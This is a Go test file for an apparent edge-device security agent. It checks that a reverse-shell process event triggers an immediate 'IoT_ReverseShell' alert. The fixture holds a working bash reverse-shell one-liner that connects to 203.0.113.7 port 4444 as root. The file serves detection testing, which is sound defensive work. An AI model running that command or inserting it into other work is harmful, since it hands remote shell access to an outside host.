package edgesec_test

import (
	"context"
	"log/slog"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/edgesec/edgesec"
	"github.com/edgesec/edgesec/detect"
	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/stage"
	"github.com/edgesec/edgesec/transport/transporttest"
)

// An alert is sent at once, not on the High priority timer (7 minutes by
// default), and the detect stage is configured from the engine's
// configuration.
func TestAlertsAreSentAtOnce(t *testing.T) {
	rec := transporttest.NewRecorder()
	ds, err := detect.New(detect.Options{Logger: slog.New(slog.DiscardHandler)})
	require.NoError(t, err)
	e := edgesec.New(edgesec.Options{AgentVersion: "test", AgentID: testAgentID, Transport: rec,
		FirstMessageDelay: -1, Stages: []stage.Stage{ds}})
	shell := &triggered{name: event.ProcessCreate, n: 1, every: 200 * time.Millisecond, mk: func(i int) event.Event {
		return event.Must(event.ProcessCreate, time.Now(), &event.ProcessCreatePayload{
			Executable: "/usr/bin/bash", CommandLine: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", ProcessID: 4242, ParentProcessID: 1, UserID: "0", UserName: "root",
		})
	}}
	e.AddCollector(shell)
	run(t, e)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var alerts []map[string]any
	for want := 1; len(alerts) == 0; want++ {
		_, err := rec.WaitFor(ctx, want)
		require.NoError(t, err, "no alert within 10 s with the default 7-minute High priority timer")
		alerts = alerts[:0]
		for _, ev := range decode(t, rec.Messages()) {
			if ev.Name == event.SecurityAlert {
				alerts = append(alerts, ev.Payload...)
			}
		}
	}
	require.Equal(t, "IoT_ReverseShell", alerts[0]["AlertType"])
	require.EqualValues(t, 4242, alerts[0]["ProcessId"])
}
